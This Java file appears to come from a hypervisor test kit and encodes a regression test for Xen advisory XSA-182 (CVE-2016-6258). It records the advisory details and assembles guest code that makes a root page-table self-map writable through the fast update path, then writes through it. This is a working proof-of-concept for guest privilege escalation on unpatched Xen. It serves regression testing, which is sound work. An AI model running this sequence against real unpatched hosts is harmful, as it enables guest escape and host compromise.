package io.github.paravane.testkit.advisory.paging;

import static io.github.paravane.testkit.asm.Gpr.R12;
import static io.github.paravane.testkit.asm.Gpr.R13;
import static io.github.paravane.testkit.asm.Gpr.RAX;
import static io.github.paravane.testkit.asm.Gpr.RBX;
import static io.github.paravane.testkit.asm.Gpr.RDX;
import static io.github.paravane.testkit.asm.Memory.ptr;
import static io.github.paravane.testkit.asm.Memory.qword;

import io.github.paravane.api.paging.Pte;
import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.advisory.TableSteps;
import io.github.paravane.testkit.asm.Assembler;
import io.github.paravane.testkit.asm.Label;

/** XSA-182: R/W is added to a self-map without validation. */
final class WritableSelfMap {

    private static final long SLOT = 100;
    private static final long WINDOW = SLOT << 39 | SLOT << 30 | SLOT << 21 | SLOT << 12;

    private WritableSelfMap() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of("xsa-182", Layer.PAGING, "A self-map becomes writable through the fast path")
                .names("XSA-182", "CVE-2016-6258", "e1bff4c2ea")
                .mechanism("An update of an L2 to L4 entry that leaves frame and PRESENT alone stores the new flags "
                        + "without validation. A table that names itself must be read-only there; the flag R/W is added"
                        + " afterwards, and the guest writes a live page table.")
                .construction("An entry of the root table names the root table itself, without R/W; the same entry is "
                        + "stored again with R/W; a store goes through the window.")
                .telling("The second update succeeds and the root table changes under the store, or the update is "
                        + "EINVAL.")
                .affected("3.0 to 4.7")
                .repaired("4.8 (e1bff4c2ea)")
                .provenance("XSA-182; Xen commit e1bff4c2ea; XTF test xsa-182")
                .build();
        return new KnownBug(
                advisory,
                AbiProfiles.XEN_4_7,
                AbiProfiles.XEN_4_8,
                GuestTrial.of(BugGuest.elf(WritableSelfMap::guest)));
    }

    private static void guest(BugGuest guest) {
        TableSteps steps = new TableSteps(guest);
        Assembler asm = guest.asm();
        steps.root(SLOT << 39);
        asm.mov(R12, RDX).mov(R13, RDX).and(R13, -4096).or(R13, (int) TableSteps.LINEAR);
        guest.runtime().update(R12, R13);
        steps.require("a read-only self-map");
        asm.or(R13, (int) Pte.RW);
        guest.runtime().update(R12, R13);
        guest.evidence("result", RAX);
        Label refused = guest.label();
        asm.test(RAX, RAX).jne(refused);
        steps.load(RBX, WINDOW + 8 * (SLOT + 1));
        asm.mov(qword(ptr(RBX)), 0x1000);
        steps.root(SLOT + 1 << 39);
        asm.mov(RAX, ptr(RAX));
        guest.evidence("root-entry", RAX).failure("the guest wrote its own root table");
        asm.bind(refused);
        guest.judge(RAX, 0, "", -22, "R/W in a self-map is refused");
    }
}
